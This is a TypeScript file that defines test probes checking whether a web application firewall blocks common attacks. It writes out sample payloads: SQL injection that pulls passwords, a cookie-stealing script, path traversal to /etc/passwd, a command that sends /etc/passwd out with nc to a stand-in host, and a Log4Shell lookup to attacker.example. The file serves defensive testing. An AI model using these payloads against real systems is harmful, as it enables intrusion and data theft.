import { backendUntouched, distributionRequests, everyRefusedByGateway, frontDoorUntouched } from "../checks";
import type { Probe } from "../probe";
import { throughExternalHost, type RequestParts } from "../requests";
import { resourcesOf } from "../resources";
import type { ProbeTarget } from "../target";
import { VantagePointName } from "../vantagePoint";

/** What the WAF must stop: one plain example of each family, through the front entrance. */
export function attackProbes(target: ProbeTarget): Probe[] {
  const { samplePath } = target;
  const query = (text: string): RequestParts => ({ path: `${samplePath}?q=${encodeURIComponent(text)}` });
  return [
    attack(
      target,
      "attack-sql-query",
      "SQL injection in the query",
      query("1' UNION SELECT name, password FROM users-- -"),
    ),
    attack(target, "attack-sql-json", "SQL injection in JSON", {
      method: "POST",
      path: samplePath,
      json: JSON.stringify({ name: "x' OR '1'='1' UNION SELECT password FROM users-- -" }),
    }),
    attack(target, "attack-xss", "cross-site scripting", query("<script>alert(document.cookie)</script>")),
    attack(target, "attack-path-traversal", "path traversal", query("../../../../etc/passwd")),
    attack(
      target,
      "attack-command-injection",
      "command injection",
      query("127.0.0.1; cat /etc/passwd | nc 198.51.100.66 9"),
    ),
    attack(target, "attack-log4shell", "Log4Shell in a header", {
      path: samplePath,
      headers: [["X-Api-Version", "${jndi:ldap://attacker.example/a}"]],
    }),
  ];
}

function attack(target: ProbeTarget, id: string, title: string, parts: RequestParts): Probe {
  const { wafRules } = resourcesOf(target);
  return {
    id,
    title,
    from: VantagePointName.Internet,
    requests: [throughExternalHost(target, parts)],
    expectation: "403 by the gateway; nothing beyond it saw the request",
    observed: true,
    judge: (evidence) => [
      ...everyRefusedByGateway(evidence, wafRules),
      ...distributionRequests(evidence.observations).map(({ status }) => ({
        what: `the distribution got the request and answered ${status}`,
        lookAt: wafRules,
      })),
      ...frontDoorUntouched(evidence, wafRules),
      ...backendUntouched(evidence, wafRules),
    ],
  };
}
